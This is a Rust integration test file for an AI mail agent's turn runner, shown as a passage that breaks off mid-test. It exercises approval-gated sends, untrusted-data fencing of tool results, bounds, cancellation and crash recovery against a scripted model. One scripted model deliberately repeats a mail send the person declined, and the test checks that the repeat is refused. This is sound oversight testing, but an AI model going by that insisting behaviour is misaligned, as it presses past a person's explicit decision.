//! The chat turn runner over a real mirror, a scripted model server speaking the OpenAI wire
//! format on loopback, and real SMTP: a tool call and its answer, a gated send that pauses
//! the turn and resumes on the person's decision (once), a declined call refused for the rest
//! of the chat, every bound with its end reason, cancellation, and a crash mid-turn.

use std::{
    sync::{Arc, Mutex},
    time::Duration,
};

use serde_json::{Value, json};
use steward_connectors::{
    mail::{
        demo::{DemoOptions, generate_maildir},
        smtp::{Security, SmtpConfig, SmtpSender},
    },
    testing::{
        SinkOptions, SmtpSink,
        models::{Recorded, Reply, ScriptedServer, chat_answer},
    },
};
use steward_core::{
    Steward,
    agent::{Agent, AgentConfig, EndReason, TurnEvent, TurnResult},
    approval::{DecisionInput, DecisionKind},
    outbox::Sender,
    tools::Toolbox,
};

use super::fixtures::{mirror_maildir, steward};

const WAIT: Duration = Duration::from_secs(30);

struct Rig {
    _dir: tempfile::TempDir,
    steward: Arc<Steward>,
    agent: Agent,
    sink: SmtpSink,
    _model: ScriptedServer,
}

fn sender() -> Sender {
    Sender { account: "a".into(), from: "ada@example.org".into(), from_name: Some("Ada".into()) }
}

/// A home with 40 demo messages, SMTP to a sink, and a model answering with `script`.
fn rig(
    config: AgentConfig,
    script: impl Fn(&Recorded, usize) -> Reply + Send + Sync + 'static,
) -> Rig {
    rig_with(config, |_| {}, |tb, _| tb, script)
}

/// [`rig`] with the model configuration changed by `tweak` (rates, for example) and the
/// toolbox by `tools` (given the test's directory).
fn rig_with(
    config: AgentConfig,
    tweak: impl FnOnce(&mut steward_core::llm::LlmConfig),
    tools: impl FnOnce(Toolbox, &std::path::Path) -> Toolbox,
    script: impl Fn(&Recorded, usize) -> Reply + Send + Sync + 'static,
) -> Rig {
    let dir = tempfile::tempdir().unwrap();
    let md = dir.path().join("Maildir");
    let mut opts = DemoOptions::new(40);
    opts.malformed = false;
    generate_maildir(&md, &opts).unwrap();
    mirror_maildir(&steward(dir.path()), &md);
    let model = ScriptedServer::start(script);
    let mut llm = steward_connectors::testing::models::one_chat_target(&model.base_url, "scripted");
    tweak(&mut llm);
    let s = Arc::new(Steward::builder().home(dir.path().join("home")).llm(llm).open().unwrap());
    let sink = SmtpSink::start(dir.path(), &SinkOptions::default());
    let smtp = SmtpSender::new(SmtpConfig::new("127.0.0.1", sink.port, Security::Plain, sender()))
        .unwrap();
    let toolbox = Toolbox::new(Arc::clone(&s)).with_mail_sender(Arc::new(smtp), sender());
    let agent = Agent::open(Arc::new(tools(toolbox, dir.path())), config).unwrap();
    Rig { _dir: dir, steward: s, agent, sink, _model: model }
}

fn call(id: &str, name: &str, args: Value) -> Reply {
    Reply::Json(200, chat_answer("scripted", "", &[(id, name, &args.to_string())], (100, 10, 0)))
}

fn say(text: &str) -> Reply {
    Reply::Json(200, chat_answer("scripted", text, &[], (120, 20, 0)))
}

/// The text of the last message of a request (what the model was just told).
fn last_message(r: &Recorded) -> String {
    r.body["messages"]
        .as_array()
        .and_then(|m| m.last())
        .map(|m| m["content"].to_string())
        .unwrap_or_default()
}

impl Rig {
    fn turn(&self, chat: &str, text: &str) -> TurnResult {
        let run = self.agent.start_turn(chat, text).unwrap();
        self.agent.wait(&run, WAIT).unwrap().expect("the turn ends")
    }

    /// The person lets `tools` run without asking (still audited).
    fn allow(&self, tools: &[&str]) {
        let me = self.steward.human("Ada").unwrap();
        for tool in tools {
            let allow = steward_core::policy::PolicyChange::SetRule {
                tool: (*tool).into(),
                rule: steward_core::policy::Rule::Allow,
            };
            self.steward.set_policy(&me, &allow, None).unwrap();
        }
    }

    /// The chat's `context_compacted` events, as JSON.
    fn compactions(&self, chat: &str) -> Vec<Value> {
        self.events(chat)
            .iter()
            .map(|e| serde_json::to_value(e).unwrap())
            .filter(|e| e["type"] == "context_compacted")
            .collect()
    }

    fn events(&self, chat: &str) -> Vec<TurnEvent> {
        self.agent.events_after(Some(chat), 0, 500).unwrap().into_iter().map(|e| e.event).collect()
    }

    /// The newest turn of `chat`, once it has ended.
    fn latest(&self, chat: &str, after_runs: usize) -> TurnResult {
        let deadline = std::time::Instant::now() + WAIT;
        loop {
            let turns = self.agent.turns(chat, 50).unwrap();
            if turns.len() > after_runs
                && let Some(r) = self.agent.wait(&turns[0].run_id, WAIT).unwrap()
            {
                return r;
            }
            assert!(std::time::Instant::now() < deadline, "no new turn in {chat}");
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

#[test]
fn a_turn_calls_a_read_tool_and_answers_with_the_result_fenced_as_data() {
    let r = rig(AgentConfig::default(), |req, n| match n {
        0 => call("c1", "mail.search", json!({"query": "", "limit": 2})),
        _ => {
            let told = last_message(req);
            assert!(told.contains("<untrusted_data tool=\\\"mail.search\\\""), "{told}");
            say("You have mail from the demo.")
        }
    });
    let chat = r.agent.create_chat().unwrap().id;
    let result = r.turn(&chat, "What came in lately?");
    assert_eq!(result.end_reason, EndReason::Completed, "{result:?}");
    assert_eq!((result.usage.model_calls, result.usage.tool_calls), (2, 1));
    assert_eq!(result.text, "You have mail from the demo.");
    assert_eq!(r.agent.chat(&chat).unwrap().title, "What came in lately?", "titled by the person");
    assert_eq!((result.usage.input_tokens, result.usage.output_tokens), (220, 30));
    let kinds: Vec<String> = r
        .events(&chat)
        .iter()
        .map(|e| serde_json::to_value(e).unwrap()["type"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        kinds,
        [
            "turn_started",
            "usage",
            "tool_proposed",
            "tool_started",
            "tool_finished",
            "text_delta",
            "usage",
            "turn_ended"
        ]
    );
    let finished = r.events(&chat).into_iter().find_map(|e| match e {
        TurnEvent::ToolFinished { status, untrusted, sources, .. } => {
            Some((status, untrusted, sources.len()))
        }
        _ => None,
    });
    assert_eq!(finished, Some(("ran".to_owned(), true, 2)));
    // The host, not the model, says who and when; every model call is attributed.
    let report = r.steward.usage_report("all", steward_core::time::now_secs()).unwrap();
    let agent = report.by_service.iter().find(|g| g.key == "agent").unwrap();
    assert_eq!(agent.requests, 2);
    let messages = r.agent.messages(&chat, 0, 50).unwrap();
    let roles: Vec<&str> = messages.iter().map(|m| m.role.as_str()).collect();
    assert_eq!(roles, ["user", "assistant", "tool", "assistant"]);
}

#[test]
fn a_gated_send_pauses_the_turn_and_the_decision_resumes_it_exactly_once() {
    let asked = Arc::new(Mutex::new(Vec::<String>::new()));
    let seen = Arc::clone(&asked);
    let mail = json!({"to": ["bob@example.org"], "subject": "Lunch", "body": "Friday?"});
    let m = mail.clone();
    let r = rig(AgentConfig::default(), move |req, _| {
        let told = last_message(req);
        seen.lock().unwrap().push(told.clone());
        if told.contains("approved by the person") {
            say("Sent.")
        } else if told.contains("declined by the person") {
            // A model that insists: the identical call again.
            call("c9", "mail.send", m.clone())
        } else if told.contains("refused: the person declined") {
            say("Understood, I will not send it.")
        } else if told.contains("waiting for the person") {
            say("It waits for your approval.")
        } else {
            call(&format!("c{}", seen.lock().unwrap().len()), "mail.send", m.clone())
        }
    });
    let chat = r.agent.create_chat().unwrap().id;
    let first = r.turn(&chat, "Ask Bob about lunch on Friday.");
    assert_eq!(first.end_reason, EndReason::AwaitingApproval, "{first:?}");
    assert_eq!(first.approvals.len(), 1);
    let approval = first.approvals[0];
    assert_eq!(r.sink.deliveries().len(), 0, "nothing is sent before a person decides");
    assert!(r.steward.list_write_operations(None, 0, 10).unwrap().is_empty());
    // The card shows the exact input.
    let card = r.steward.approval_detail(approval).unwrap().approval;
    assert_eq!(card.normalized_input, mail);
    assert_eq!(card.chat.as_deref(), Some(chat.as_str()));
    // The person approves; the decision resumes the chat with a new turn.
    let me = r.steward.human("Ada").unwrap();
    r.steward
        .decide_approval(approval, DecisionKind::Approve, &DecisionInput::default(), &me)
        .unwrap();
    assert_eq!(r.agent.resolve_decided().unwrap(), 1);
    let resumed = r.latest(&chat, 1);
    assert_eq!(resumed.end_reason, EndReason::Completed, "{resumed:?}");
    assert_eq!(resumed.text, "Sent.");
    assert_eq!(r.sink.deliveries().len(), 1);
    // Resolving again changes nothing: nothing waits, nothing is sent twice.
    assert_eq!(r.agent.resolve_decided().unwrap(), 0);
    assert_eq!(r.sink.deliveries().len(), 1);

    // A declined request: the model is told, and the identical call is refused afterwards.
    let chat2 = r.agent.create_chat().unwrap().id;
    let paused = r.turn(&chat2, "Ask Bob about lunch again.");
    let id = paused.approvals[0];
    let note = DecisionInput { note: Some("not now".into()), ..DecisionInput::default() };
    r.steward.decide_approval(id, DecisionKind::Deny, &note, &me).unwrap();
    r.agent.resolve_decided().unwrap();
    let after = r.latest(&chat2, 1);
    assert_eq!(after.end_reason, EndReason::Completed, "{after:?}");
    assert_eq!(after.text, "Understood, I will not send it.");
    let statuses: Vec<String> =
        r.agent.tool_calls(&chat2).unwrap().into_iter().map(|c| c.status).collect();
    assert_eq!(statuses, ["declined", "refused"]);
    assert!(asked.lock().unwrap().iter().any(|t| t.contains("declined by the person: not now")));
    assert_eq!(r.sink.deliveries().len(), 1, "the declined mail never went out");
    let pending = r.steward.list_approvals(&Default::default()).unwrap();
    assert_eq!(pending.len(), 2, "the refused repeat asked nobody: {pending:?}");
}

#[test]
fn every_bound_ends_the_turn_with_its_reason_and_answers_every_call() {
    // The same call forever: refused after the identical-call bound, then the model-call bound.
    let mut config = AgentConfig::default();
    config.max_model_calls = 4;
    let r = rig(config, |_, n| call(&format!("s{n}"), "ops.list", json!({})));
    let chat = r.agent.create_chat().unwrap().id;
    let res = r.turn(&chat, "loop");
    assert_eq!(res.end_reason, EndReason::MaxModelCalls);
    let statuses: Vec<String> =
        r.agent.tool_calls(&chat).unwrap().into_iter().map(|c| c.status).collect();
    assert_eq!(statuses, ["ran", "ran", "refused", "refused"]);
    let msgs = r.agent.messages(&chat, 0, 100).unwrap();
    let calls = msgs.iter().map(|m| m.tool_calls.len()).sum::<usize>();
    let answers = msgs.iter().filter(|m| m.role == "tool").count();
    assert_eq!(calls, answers, "every call has exactly one answer");

    // Truncated tool JSON three times in a row ends the turn instead of looping.
    let r = rig(AgentConfig::default(), |_, n| {
        Reply::Json(
            200,
            chat_answer(
                "scripted",
                "",
                &[(&format!("b{n}"), "mail.search", "{\"query\": \"inv")],
                (10, 5, 0),
            ),
        )
    });
    let chat = r.agent.create_chat().unwrap().id;
    let res = r.turn(&chat, "search");
    assert_eq!(res.end_reason, EndReason::Error);
    assert!(res.error.as_deref().unwrap().contains("3 unparseable"), "{res:?}");
    assert_eq!(res.usage.model_calls, 3);

    // More calls than the tool-call bound in one answer: the rest are refused, not run.
    let mut config = AgentConfig::default();
    config.max_tool_calls = 2;
    let r = rig(config, |_, _| {
        let calls: Vec<(String, String)> = (0..4)
            .map(|i| (format!("t{i}"), json!({"cursor": i.to_string()}).to_string()))
            .collect();
        let calls: Vec<(&str, &str, &str)> =
            calls.iter().map(|(id, a)| (id.as_str(), "ops.list", a.as_str())).collect();
        Reply::Json(200, chat_answer("scripted", "", &calls, (10, 5, 0)))
    });
    let chat = r.agent.create_chat().unwrap().id;
    let res = r.turn(&chat, "many");
    assert_eq!(res.end_reason, EndReason::MaxToolCalls);
    let statuses: Vec<String> =
        r.agent.tool_calls(&chat).unwrap().into_iter().map(|c| c.status).collect();
    assert_eq!(statuses, ["ran", "ran", "refused", "refused"]);

    // A token budget.
    let mut config = AgentConfig::default();
    config.max_turn_tokens = 150;
    let r = rig(config, |_, _| call("x", "ops.list", json!({})));
    let chat = r.agent.create_chat().unwrap().id;
    assert_eq!(r.turn(&chat, "spend").end_reason, EndReason::Budget);

    // No model answers.
    let r =
        rig(AgentConfig::default(), |_, _| Reply::Json(503, json!({"error": {"message": "down"}})));
    let chat = r.agent.create_chat().unwrap().id;
    let res = r.turn(&chat, "hello");
    assert_eq!(res.end_reason, EndReason::ModelUnavailable, "{res:?}");
}

#[test]
fn a_turn_ends_on_its_cost_bound_priced_by_the_configured_rates() {
    let mut config = AgentConfig::default();
    // Each answer costs 100 input × $10/M + 10 output × $30/M = $0.0013; the bound is two.
    config.max_turn_cost_micros = 2_600;
    let r = rig_with(
        config,
        |llm| {
            let rates =
                steward_core::llm::Rates { input: 10.0, output: 30.0, ..Default::default() };
            llm.rates.insert("scripted".into(), rates);
        },
        |tb, _| tb,
        // The provider names its model its own way: priced by the configured one.
        |_, n| {
            let args = json!({"since": format!("{}d", n + 1)}).to_string();
            let answer = chat_answer(
                "scripted-2026-01-01",
                "",
                &[(&format!("c{n}"), "usage.summary", &args)],
                (100, 10, 0),
            );
            Reply::Json(200, answer)
        },
    );
    let chat = r.agent.create_chat().unwrap().id;
    let res = r.turn(&chat, "How much did I spend?");
    assert_eq!(res.end_reason, EndReason::Budget, "{res:?}");
    assert_eq!(res.usage.model_calls, 2, "stopped before a third call: {res:?}");
    assert_eq!(res.usage.cost_micros, 2_600, "{res:?}");
    assert_eq!(r._model.requests().len(), 2, "no request past the bound");
    assert_eq!(r.agent.turn(&res.run_id).unwrap().cost_micros, 2_600, "recorded with the turn");
}

#[test]
fn a_cancelled_turn_runs_no_tool_and_leaves_a_valid_history() {
    let r = rig(AgentConfig::default(), |_, _| Reply::Sse {
        chunks: steward_connectors::testing::models::chat_stream_chunks(
            "scripted",
            &["thinking", " more"],
            (5, 5),
        ),
        done: true,
        gap: Duration::from_millis(300),
    });
    let chat = r.agent.create_chat().unwrap().id;
    let run = r.agent.start_turn(&chat, "slow").unwrap();
    assert!(r.agent.cancel(&run));
    let res = r.agent.wait(&run, WAIT).unwrap().unwrap();
    assert_eq!(res.end_reason, EndReason::Cancelled);
    assert!(r.agent.tool_calls(&chat).unwrap().is_empty());
    assert!(!r.agent.cancel(&run), "a finished run cannot be cancelled");
}

#[test]
fn a_turn_killed_mid_call_is_interrupted_and_the_next_context_answers_the_open_call() {
    let told = Arc::new(Mutex::new(String::new()));
    let seen = Arc::clone(&told);
    let r = rig(AgentConfig::default(), move |req, _| {
        *seen.lock().unwrap() = req.body["messages"].to_string();
        say("ok")
    });
    let chat = r.agent.create_chat().unwrap().id;
    // What a process killed between the model's answer and the tool's result leaves behind.
    let db = rusqlite::Connection::open(r.steward.home().join("chats.db")).unwrap();
    db.execute_batch(&format!(
        "INSERT INTO turns (run_id, chat_id, status, started_at) VALUES ('run_dead', '{chat}', 'running', 1);
         INSERT INTO messages (chat_id, run_id, role, content, created_at) VALUES ('{chat}', 'run_dead', 'user', 'send it', 1);
         INSERT INTO messages (chat_id, run_id, role, tool_calls, created_at) VALUES ('{chat}', 'run_dead', 'assistant',
           '[{{\"id\":\"k1\",\"name\":\"ops.list\",\"arguments\":\"{{}}\"}}]', 1);
         INSERT INTO tool_calls (chat_id, run_id, call_id, tool, input, input_key, status, created_at)
           VALUES ('{chat}', 'run_dead', 'k1', 'ops.list', '{{}}', 'k', 'running', 1);"
    ))
    .unwrap();
    drop(db);
    // Another handle on the same home, as another process has.
    let open = || {
        let llm =
            steward_connectors::testing::models::one_chat_target(&r._model.base_url, "scripted");
        let s = Steward::builder().home(r.steward.home()).llm(llm).open().unwrap();
        Agent::open(Arc::new(Toolbox::new(Arc::new(s))), AgentConfig::default()).unwrap()
    };
    // While a live agent holds the home, another process's agent reads but starts nothing,
    // and never calls the live agent's turns dead.
    let second = open();
    assert!(!second.runs_turns());
    assert_eq!(second.turn("run_dead").unwrap().status, "running");
    let e = second.start_turn(&chat, "hi").unwrap_err();
    assert_eq!(steward_core::StewardError::code(&e), "AGENT_RUNS_ELSEWHERE");
    drop(second);
    // The holder is gone (as after kill -9): the next agent interrupts what it left.
    drop(r.agent);
    let reopened = open();
    assert!(reopened.runs_turns());
    let dead = reopened.turn("run_dead").unwrap();
    assert_eq!(dead.status, "interrupted");
    assert_eq!(reopened.tool_calls(&chat).unwrap()[0].status, "interrupted");
    let res = {
        let run = reopened.start_turn(&chat, "and now?").unwrap();
        reopened.wait(&run, WAIT).unwrap().unwrap()
    };
    assert_eq!(res.end_reason, EndReason::Completed);
    let messages: Value = serde_json::from_str(&told.lock().unwrap()).unwrap();
    let answer = messages.as_array().unwrap().iter().find(|m| m["tool_call_id"] == "k1").unwrap();
    assert!(answer["content"].as_str().unwrap().starts_with("interrupted"), "{answer}");
}

/// A whole turn with a real model (SmolLM2-135M on the CPU, `scripts/local-model`): it is
/// offered the registry's tools, calls one (the server holds it to the tools' JSON format; what
/// it writes inside is its own), the call goes through the gate and runs or is refused with a
/// typed result, and the model's streamed answer ends the turn. Every call is in the ledger.
#[test]
fn a_real_local_model_runs_a_whole_turn_with_a_tool_call() {
    use steward_connectors::testing::models::LocalModel;
    let Some(model) = LocalModel::start() else {
        assert!(
            std::env::var_os("STEWARD_REQUIRE_LOCAL_MODEL").is_none(),
            "the local model is required here but not installed (scripts/local-model --install)"
        );
        eprintln!("SKIP real local model: not installed (scripts/local-model --install)");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let md = dir.path().join("Maildir");
    let mut opts = DemoOptions::new(40);
    opts.malformed = false;
    generate_maildir(&md, &opts).unwrap();
    mirror_maildir(&steward(dir.path()), &md);
    let mut llm = steward_connectors::testing::models::one_chat_target(&model.base_url, "smollm2");
    llm.deadline = Duration::from_secs(300);
    let s = Arc::new(Steward::builder().home(dir.path().join("home")).llm(llm).open().unwrap());
    let toolbox = Arc::new(Toolbox::new(Arc::clone(&s)));
    let names: Vec<String> = toolbox.definitions().into_iter().map(|t| t.name).collect();
    let mut config = AgentConfig::default();
    config.max_model_calls = 4;
    let agent = Agent::open(toolbox, config).unwrap();
    let chat = agent.create_chat().unwrap().id;
    let run = agent.start_turn(&chat, "Search my mail for the word invoice.").unwrap();
    let result = agent.wait(&run, Duration::from_secs(600)).unwrap().expect("the turn ends");
    assert_eq!(result.end_reason, EndReason::Completed, "{result:?}");
    assert_eq!(result.usage.tool_calls, 1, "{result:?}");
    assert_eq!(result.usage.model_calls, 2, "a call, then the answer after its result");
    assert!(!result.text.trim().is_empty(), "the model answered in words");
    let calls = agent.tool_calls(&chat).unwrap();
    assert_eq!(calls.len(), 1);
    assert!(names.contains(&calls[0].tool), "{} is a registry tool", calls[0].tool);
    assert!(["ran", "invalid"].contains(&calls[0].status.as_str()), "{calls:?}");
    let events = agent.events_after(Some(&chat), 0, 500).unwrap();
    let streamed: String = events
        .iter()
        .filter_map(|e| match &e.event {
            TurnEvent::TextDelta { text } => Some(text.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(streamed, result.text, "the answer arrived as it was generated");
    // The real token counts of both calls are in the usage ledger.
    let usage = s.usage_report("all", i64::MAX / 2).unwrap();
    assert_eq!(usage.total.requests, 2);
    assert!(usage.total.input_tokens > 0 && usage.total.output_tokens > 0, "{usage:?}");
    eprintln!("local model: {} ({}) then {:?}", calls[0].tool, calls[0].status, result.text);
}

/// Whether a request is the one that condenses old messages (its system message says so).
fn is_summary_request(r: &Recorded) -> bool {
    r.body["messages"][0]["content"].as_str().is_some_and(|s| s.starts_with("You condense"))
}

#[test]
fn a_long_chat_is_summarized_once_by_a_model_call_and_the_summary_stands_for_its_start() {
    let mut config = AgentConfig::default();
    config.context_chars = 6_000;
    config.summary_chars = 500;
    let long = "x".repeat(3_000);
    let r = rig(config, move |req, _| {
        if is_summary_request(req) {
            let convo = last_message(req);
            assert!(convo.contains("ALPHA-MARK"), "the summarizer sees the oldest exchange");
            assert!(!convo.contains("GAMMA"), "but not the exchange it keeps");
            return say("SUMMARY-ONE: the person asked about ALPHA-MARK.");
        }
        let told = last_message(req);
        if told.contains("ALPHA") || told.contains("BETA") { say(&long) } else { say("short") }
    });
    let chat = r.agent.create_chat().unwrap().id;
    r.agent.rename_chat(&chat, "Greek letters").unwrap();
    for text in ["First: ALPHA-MARK", "Second: BETA", "Third: GAMMA", "Fourth: DELTA"] {
        assert_eq!(r.turn(&chat, text).end_reason, EndReason::Completed, "{text}");
    }
    assert_eq!(r.agent.chat(&chat).unwrap().title, "Greek letters", "a person's title is kept");
    let reqs = r._model.requests();
    let summaries: Vec<usize> =
        reqs.iter().enumerate().filter(|(_, q)| is_summary_request(q)).map(|(i, _)| i).collect();
    assert_eq!(summaries.len(), 1, "summarized once; the stored summary is reused after");
    // Every chat request after the summary carries it, fenced as data, instead of the start.
    for q in &reqs[summaries[0] + 1..] {
        let msgs = q.body["messages"].as_array().unwrap();
        let second = msgs[1]["content"].as_str().unwrap();
        assert!(second.contains("context.summary") && second.contains("SUMMARY-ONE"), "{second}");
        assert!(
            second.contains("<untrusted_data tool=\"context.summary\"")
                && second.trim_end().ends_with("</untrusted_data>"),
            "the summary is data: {second}"
        );
        assert!(
            !msgs.iter().any(|m| m["content"].as_str() == Some("First: ALPHA-MARK")),
            "the summarized exchange is not sent again"
        );
        assert!(msgs.iter().any(|m| m["content"].as_str() == Some("Second: BETA")));
    }
    let compacted = r.compactions(&chat);
    assert_eq!(compacted.len(), 1, "{compacted:?}");
    assert_eq!(
        (compacted[0]["summarized"].as_bool(), compacted[0]["dropped"].as_u64()),
        (Some(true), Some(2))
    );
    // The messages themselves are kept: the person can still read the whole chat.
    let stored = r.agent.messages(&chat, 0, 100).unwrap();
    assert_eq!(stored[0].content.as_deref(), Some("First: ALPHA-MARK"));
    // The summary call is in the usage ledger as the agent's `compact`.
    let report = r.steward.usage_report("all", steward_core::time::now_secs()).unwrap();
    let compact = report.by_action.iter().find(|g| g.key == "compact").expect("a compact row");
    assert_eq!(compact.requests, 1);
}

#[test]
fn when_the_summary_fails_the_oldest_exchanges_are_left_out_and_the_turn_still_answers() {
    let mut config = AgentConfig::default();
    config.context_chars = 6_000;
    config.summary_chars = 500;
    let long = "y".repeat(3_500);
    let r = rig(config, move |req, _| {
        if is_summary_request(req) {
            return Reply::Json(400, json!({"error": {"message": "no summaries today"}}));
        }
        let last = req.body["messages"].as_array().and_then(|m| m.last()).cloned();
        let answered = last.as_ref().and_then(|m| m["tool_call_id"].as_str()).map(str::to_owned);
        match answered.as_deref() {
            // Two read calls in the third turn: three model calls that each need compacting.
            Some("t1") => call("t2", "usage.summary", json!({})),
            Some(_) => say("fine"),
            None if last_message(req).contains("LONG") => say(&long),
            None => call("t1", "usage.summary", json!({})),
        }
    });
    let chat = r.agent.create_chat().unwrap().id;
    assert_eq!(r.turn(&chat, "ONE LONG").end_reason, EndReason::Completed);
    assert_eq!(r.turn(&chat, "TWO LONG").end_reason, EndReason::Completed);
    let res = r.turn(&chat, "THREE");
    assert_eq!((res.end_reason, res.text.as_str()), (EndReason::Completed, "fine"));
    let reqs = r._model.requests();
    assert_eq!(
        reqs.iter().filter(|q| is_summary_request(q)).count(),
        1,
        "a failing summary is asked once per run, not on every model call"
    );
    let chats: Vec<&Recorded> = reqs.iter().filter(|q| !is_summary_request(q)).collect();
    assert_eq!(chats.len(), 5, "two answers, then a call, a call and the answer");
    for q in &chats[3..] {
        let told = last_message(q);
        assert!(
            told.contains("request(s)") && !told.contains("result dropped"),
            "the current exchange's results reach the model whole: {told}"
        );
    }
    let msgs = chats[4].body["messages"].as_array().unwrap();
    assert!(!msgs.iter().any(|m| m["content"].as_str() == Some("ONE LONG")), "left out");
    assert!(msgs.iter().any(|m| m["content"].as_str() == Some("TWO LONG")), "kept");
    assert!(
        !msgs.iter().any(|m| m["content"].as_str().is_some_and(|c| c.contains("context.summary")))
    );
    let compacted = r.compactions(&chat);
    assert!(
        !compacted.is_empty() && compacted.iter().all(|e| e["summarized"] == false),
        "{compacted:?}"
    );
}

#[test]
fn a_gated_calls_result_is_never_dropped_to_fit_the_context() {
    let mut config = AgentConfig::default();
    config.context_chars = 3_000;
    config.summary_chars = 500;
    let mail = json!({"to": ["bob@example.org"], "subject": "Lunch", "body": "Friday?"});
    let r = rig(config, move |req, _| {
        let last = req.body["messages"].as_array().and_then(|m| m.last()).cloned().unwrap();
        match (last["role"].as_str(), last["content"].as_str()) {
            (Some("user"), Some("SEND")) => call("s1", "mail.send", mail.clone()),
            (Some("user"), Some("BIG")) => {
                call("b1", "mail.search", json!({"query": "", "limit": 6}))
            }
            (Some("tool"), _) if last["tool_call_id"] == "b1" => say(&"k".repeat(1_500)),
            _ => say("ok"),
        }
    });
    let chat = r.agent.create_chat().unwrap().id;
    assert_eq!(r.turn(&chat, "SEND").end_reason, EndReason::AwaitingApproval);
    assert_eq!(r.turn(&chat, "BIG").end_reason, EndReason::Completed);
    assert_eq!(r.turn(&chat, "NEXT").end_reason, EndReason::Completed);
    let last = r._model.requests().into_iter().last().unwrap();
    let msgs = last.body["messages"].as_array().unwrap();
    let text = |id: &str| {
        msgs.iter().find(|m| m["tool_call_id"] == id).and_then(|m| m["content"].as_str()).unwrap()
    };
    assert!(text("b1").contains("result dropped"), "the search result made room: {}", text("b1"));
    assert!(text("s1").contains("waiting for the person's approval"), "{}", text("s1"));
    let compacted = r.compactions(&chat);
    assert_eq!(compacted.len(), 1, "{compacted:?}");
    assert_eq!(compacted[0]["summarized"], false, "dropping a result was enough");
}

/// A small context (6,000 characters, 500 of summary) whose decisions the test resolves.
fn small_context() -> AgentConfig {
    let mut config = AgentConfig::default();
    config.context_chars = 6_000;
    config.summary_chars = 500;
    config.resume_on_decision = false;
    config
}

/// The model of the "lunch" chats: `SEND` proposes a mail to Bob (`SEND again` another), `ONE`
/// and `THREE` get long answers that make the chat outgrow the small context.
fn lunch(req: &Recorded) -> Reply {
    let told = last_message(req);
    if told.contains("SEND again") {
        let other = json!({"to": ["bob@example.org"], "subject": "Lunch?", "body": "Or Monday?"});
        call("s2", "mail.send", other)
    } else if told.contains("SEND") {
        call(
            "s1",
            "mail.send",
            json!({"to": ["bob@example.org"], "subject": "Lunch", "body": "Friday?"}),
        )
    } else if told.contains("ONE") {
        say(&"a".repeat(3_000))
    } else if told.contains("THREE") {
        say(&"b".repeat(5_400))
    } else {
        say("ok")
    }
}

/// The first three turns of a lunch chat: an answer, a send waiting for approval, an answer.
fn lunch_start(r: &Rig, chat: &str) -> TurnResult {
    assert_eq!(r.turn(chat, "ONE").end_reason, EndReason::Completed);
    let paused = r.turn(chat, "SEND");
    assert_eq!(paused.end_reason, EndReason::AwaitingApproval, "{paused:?}");
    assert_eq!(r.turn(chat, "THREE").end_reason, EndReason::Completed);
    paused
}

#[test]
fn a_decision_on_a_summarized_call_reaches_the_model_by_a_new_summary_or_steward_s_own_note() {
    let failing = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let fail = Arc::clone(&failing);
    let r = rig(small_context(), move |req, _| {
        if is_summary_request(req) {
            if fail.load(std::sync::atomic::Ordering::SeqCst) {
                return Reply::Json(400, json!({"error": {"message": "no summaries now"}}));
            }
            return say("SUMMARY: the person said ONE and asked to mail Bob; it waits.");
        }
        lunch(req)
    });
    let chat = r.agent.create_chat().unwrap().id;
    let paused = lunch_start(&r, &chat);
    assert_eq!(r.turn(&chat, "FOUR").end_reason, EndReason::Completed);
    let before = r._model.requests();
    let summaries: Vec<&Recorded> = before.iter().filter(|q| is_summary_request(q)).collect();
    assert_eq!(summaries.len(), 1, "the start was summarized, the waiting call with it");
    assert!(last_message(summaries[0]).contains("waiting for the person's approval"));

    // The person declines: the summary that described the call as waiting now ends before it,
    // so the next turn's model reads the call with its outcome.
    let me = r.steward.human("Ada").unwrap();
    r.steward
        .decide_approval(paused.approvals[0], DecisionKind::Deny, &DecisionInput::default(), &me)
        .unwrap();
    assert_eq!(r.agent.resolve_decided().unwrap(), 1);
    assert_eq!(r.turn(&chat, "FIVE").end_reason, EndReason::Completed);
    let after = r._model.requests();
    let five = after[before.len()..].iter().find(|q| !is_summary_request(q)).unwrap();
    let sent = five.body["messages"].to_string();
    assert!(sent.contains("declined by the person") && sent.contains("SUMMARY:"), "{sent}");

    // When summaries fail, what became of the actions left out is Steward's own note.
    failing.store(true, std::sync::atomic::Ordering::SeqCst);
    let me2 = r.steward.human("Ada").unwrap();
    let again = r.turn(&chat, "SEND again");
    assert_eq!(again.end_reason, EndReason::AwaitingApproval, "{again:?}");
    r.steward
        .decide_approval(again.approvals[0], DecisionKind::Deny, &DecisionInput::default(), &me2)
        .unwrap();
    r.agent.resolve_decided().unwrap();
    assert_eq!(r.turn(&chat, "THREE more").end_reason, EndReason::Completed);
    assert_eq!(r.turn(&chat, "SIX").end_reason, EndReason::Completed);
    let last = r._model.requests().into_iter().rev().find(|q| !is_summary_request(q)).unwrap();
    let sent = last.body["messages"].to_string();
    assert!(sent.contains("earlier messages of this chat were left out to fit"), "{sent}");
    assert!(sent.contains("- mail.send: declined"), "{sent}");
    assert_eq!(r.sink.deliveries().len(), 0, "nothing was sent");
}

/// Holds chosen model requests until the test releases them, and says when one arrived: the
/// test sends a message at a known point of a turn, with no timing involved.
#[derive(Clone)]
struct Gate {
    arrived: Arc<Mutex<std::sync::mpsc::Sender<usize>>>,
    release: Arc<Mutex<std::sync::mpsc::Receiver<()>>>,
}

impl Gate {
    fn new() -> (Self, std::sync::mpsc::Receiver<usize>, std::sync::mpsc::Sender<()>) {
        let (arrived_tx, arrived) = std::sync::mpsc::channel();
        let (release, release_rx) = std::sync::mpsc::channel();
        let gate = Self {
            arrived: Arc::new(Mutex::new(arrived_tx)),
            release: Arc::new(Mutex::new(release_rx)),
        };
        (gate, arrived, release)
    }

    fn hold(&self, n: usize) {
        self.arrived.lock().unwrap().send(n).unwrap();
        self.release.lock().unwrap().recv_timeout(WAIT).expect("released");
    }
}

/// The person's messages of a request, in order.
fn person_said(r: &Recorded) -> Vec<String> {
    r.body["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"] == "user")
        .filter_map(|m| m["content"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn a_summary_written_while_a_decision_lands_is_not_stored_over_the_outcome() {
    let (gate, arrived, release) = Gate::new();
    let held = Arc::new(std::sync::atomic::AtomicBool::new(true));
    let hold = Arc::clone(&held);
    let r = rig(small_context(), move |req, n| {
